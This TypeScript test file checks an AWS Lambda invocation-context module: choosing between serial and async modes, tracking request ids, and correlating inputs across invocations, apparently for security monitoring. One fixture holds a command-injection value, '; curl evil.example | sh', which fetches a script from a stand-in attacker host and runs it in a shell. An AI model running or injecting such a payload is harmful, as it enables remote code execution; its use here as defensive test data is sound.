import { Invocation, InvocationContext, resolveContextMode } from './invocation';

describe('resolveContextMode', () => {
  test('auto: serial on Node 20/22 classic environments, async on Node 24 and concurrent environments', () => {
    expect(resolveContextMode('auto', {}, '20.19.0')).toBe('serial');
    expect(resolveContextMode('auto', {}, '22.13.1')).toBe('serial');
    expect(resolveContextMode('auto', {}, '24.0.0')).toBe('async');
    expect(resolveContextMode('auto', { AWS_LAMBDA_MAX_CONCURRENCY: '8' }, '22.13.1')).toBe('async');
    expect(resolveContextMode('auto', { AWS_LAMBDA_MAX_CONCURRENCY: '1' }, '20.19.0')).toBe('serial');
    expect(resolveContextMode('auto', { AWS_LAMBDA_MAX_CONCURRENCY: 'lots' }, '20.19.0')).toBe('serial');
  });
  test('an explicit choice wins, except serial where requests run concurrently', () => {
    expect(resolveContextMode('async', {}, '20.19.0')).toBe('async');
    expect(resolveContextMode('serial', {}, '24.1.0')).toBe('serial');
    expect(resolveContextMode('serial', { AWS_LAMBDA_MAX_CONCURRENCY: '8' }, '22.13.1')).toBe('async');
  });
});

const tick = () => new Promise((r) => setImmediate(r));

describe.each(['async', 'serial'] as const)('InvocationContext (%s)', (mode) => {
  test('init before the first invocation, invoke inside it, across awaits and timers', async () => {
    const ctx = new InvocationContext(mode);
    expect(ctx.phase()).toBe('init');
    expect(ctx.current()).toBeUndefined();
    const a = new Invocation('req-a', {});
    const seen: Array<string | undefined> = [];
    await ctx.begin(a, async () => {
      seen.push(ctx.current()?.requestId);
      await tick();
      seen.push(ctx.current()?.requestId);
      await new Promise<void>((r) =>
        setTimeout(() => {
          seen.push(ctx.current()?.requestId);
          r();
        }, 1),
      );
      expect(ctx.phase()).toBe('invoke');
    });
    expect(seen).toEqual(['req-a', 'req-a', 'req-a']);
  });

  test('run() scopes agent work to an invocation and restores what was current', () => {
    const ctx = new InvocationContext(mode);
    const a = new Invocation('req-a', {});
    const b = new Invocation('req-b', {});
    ctx.begin(a, () => {
      expect(ctx.run(b, () => ctx.current()?.requestId)).toBe('req-b');
      expect(ctx.current()?.requestId).toBe('req-a');
    });
  });
});

describe('serial context', () => {
  test('the invocation stays current after its handler returns, until the next begins', async () => {
    const ctx = new InvocationContext('serial');
    ctx.begin(new Invocation('req-a', {}), () => undefined);
    await tick();
    // Work left running after the response (fire-and-forget) is still the invocation's own.
    expect(ctx.current()?.requestId).toBe('req-a');
    ctx.begin(new Invocation('req-b', {}), () => undefined);
    expect(ctx.current()?.requestId).toBe('req-b');
  });
});

describe('serial context: correlation with the previous invocation', () => {
  test("work resuming in the next invocation is still correlated with the earlier one's inputs", () => {
    const ctx = new InvocationContext('serial');
    const a = new Invocation('req-a', { body: '{"cmd":"; curl evil.example | sh"}' });
    ctx.begin(a, () => undefined);
    expect(a.correlationInputs().some((i) => i.value === '; curl evil.example | sh')).toBe(true);
    const b = new Invocation('req-b', { body: '{"name":"world"}' });
    ctx.begin(b, () => undefined);
    const inputs = b.correlationInputs();
    expect(inputs.find((i) => i.value === 'world')?.path).toBe('$.body<json>.name');
    expect(inputs.find((i) => i.value === '; curl evil.example | sh')?.path).toBe('(request req-a)$.body<json>.cmd');
    // One invocation back only: the one before that is released.
    const c = new Invocation('req-c', {});
    ctx.begin(c, () => undefined);
    expect(c.correlationInputs().some((i) => i.value === '; curl evil.example | sh')).toBe(false);
    expect(b.earlier).toBeUndefined();
  });

  test('async context: no carry (each chain keeps its own invocation)', () => {
    const ctx = new InvocationContext('async');
    ctx.begin(new Invocation('req-a', { x: 'first-input' }), () => undefined);
    const b = new Invocation('req-b', { y: 'second-input' });
    ctx.begin(b, () => undefined);
    expect(b.correlationInputs().map((i) => i.value)).not.toContain('first-input');
  });
});

describe('async context', () => {
  test('concurrent invocations keep their own request ids (Managed Instances)', async () => {
    const ctx = new InvocationContext('async');
    const seen: string[] = [];
    const handler = async (delay: number) => {
      await new Promise((r) => setTimeout(r, delay));
      seen.push(ctx.current()?.requestId ?? 'none');
    };
    await Promise.all([
      ctx.begin(new Invocation('slow', {}), () => handler(5)),
      ctx.begin(new Invocation('fast', {}), () => handler(0)),
    ]);
    expect(seen).toEqual(['fast', 'slow']);
    expect(ctx.current()).toBeUndefined();
    expect(ctx.phase()).toBe('unknown');
  });
});
